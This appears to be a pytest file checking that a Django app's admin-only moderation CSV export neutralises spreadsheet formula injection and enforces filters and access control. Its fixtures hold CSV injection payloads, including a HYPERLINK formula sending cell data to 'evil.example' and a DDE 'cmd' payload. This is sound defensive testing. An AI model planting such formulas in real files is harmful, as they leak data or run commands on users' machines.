"""The moderation CSV: admins only, the list's filters, and no cell a spreadsheet would run."""

import csv
import io

import pytest
from django.urls import reverse

from annotation.workflow import S
from review.csv_export import HEADER, csv_cell
from tests.factories import make_pair

URL = reverse("review:moderate_csv")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        # Harmless text, and formula characters that are not first, stay as they are.
        ("Why is the sky blue?", "Why is the sky blue?"),
        ("1+1=2", "1+1=2"),
        (" =1", " =1"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def rows(response) -> list[list[str]]:
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def test_admins_download_every_pair_with_formulas_neutralised(as_ada, alice, dan, open_qa):
    formula = make_pair(
        author=alice,
        category=open_qa,
        instruction='=HYPERLINK("http://evil.example","Click for the answer")',
        response="@SUM(1+1) and then some more words to make it an answer",
    )
    plain = make_pair(author=dan, category=open_qa, status=S.DRAFT)

    response = as_ada.get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    header, *body = rows(response)
    assert tuple(header) == HEADER
    by_id = {row[0]: row for row in body}
    assert set(by_id) == {str(formula.public_id), str(plain.public_id)}
    row = dict(zip(HEADER, by_id[str(formula.public_id)], strict=True))
    assert row["instruction"] == '\'=HYPERLINK("http://evil.example","Click for the answer")'
    assert row["response"].startswith("'@SUM(1+1)")
    assert (row["dataset"], row["category"], row["status"], row["author"]) == (
        "dolly",
        "open_qa",
        "submitted",
        "alice",
    )
    draft = dict(zip(HEADER, by_id[str(plain.public_id)], strict=True))
    assert draft["status"] == "draft" and draft["instruction"] == ""


def test_no_cell_starts_like_a_formula(as_ada, alice, open_qa):
    for start in ("=", "+", "-", "@"):
        make_pair(author=alice, category=open_qa, instruction=f"{start}question {start} start?")
    for row in rows(as_ada.get(URL))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_the_list_filters_apply(as_ada, alice, open_qa, closed_qa):
    submitted = make_pair(author=alice, category=open_qa)
    make_pair(author=alice, category=open_qa, status=S.DRAFT)
    make_pair(author=alice, category=closed_qa)

    response = as_ada.get(URL, {"status": "submitted", "category": open_qa.pk, "page": "3"})

    assert [row[0] for row in rows(response)[1:]] == [str(submitted.public_id)]


def test_junk_filters_export_nothing(as_ada, alice, open_qa):
    # The list shows every pair beside the filter's error; a file has no room for the
    # error, so it is refused rather than exporting more than was asked for.
    make_pair(author=alice, category=open_qa)
    response = as_ada.get(URL, {"status": "nope", "dataset": "\ufffd", "category": "x"})
    assert response.status_code == 422
    assert not response.streaming
    # A NUL is refused before any view (config/encoding.py): no text column holds one.
    assert as_ada.get(URL, {"dataset": "\x00"}).status_code == 400


def test_rows_stream_in_a_fixed_number_of_queries(
    as_ada, alice, open_qa, django_assert_max_num_queries
):
    for _ in range(30):
        make_pair(author=alice, category=open_qa)
    response = as_ada.get(URL)
    with django_assert_max_num_queries(3):
        assert len(rows(response)) == 31


@pytest.mark.parametrize("persona", ["as_carol", "as_alice", "as_bob"])
def test_everyone_else_gets_403(request, persona, alice, open_qa):
    make_pair(author=alice, category=open_qa)
    response = request.getfixturevalue(persona).get(URL)
    assert response.status_code == 403
    assert not response.streaming


def test_anonymous_visitors_are_sent_to_sign_in(client, db):
    response = client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_moderation_list_links_the_download_with_its_filters(as_ada, alice, open_qa):
    make_pair(author=alice, category=open_qa)
    page = as_ada.get(reverse("review:moderate"), {"status": "submitted", "page": "1"})
    assert f'href="{URL}?status=submitted"' in page.content.decode()
    fragment = as_ada.get(
        reverse("review:moderate"), {"status": "submitted"}, HTTP_HX_REQUEST="true"
    )
    assert f'href="{URL}?status=submitted"' in fragment.content.decode()
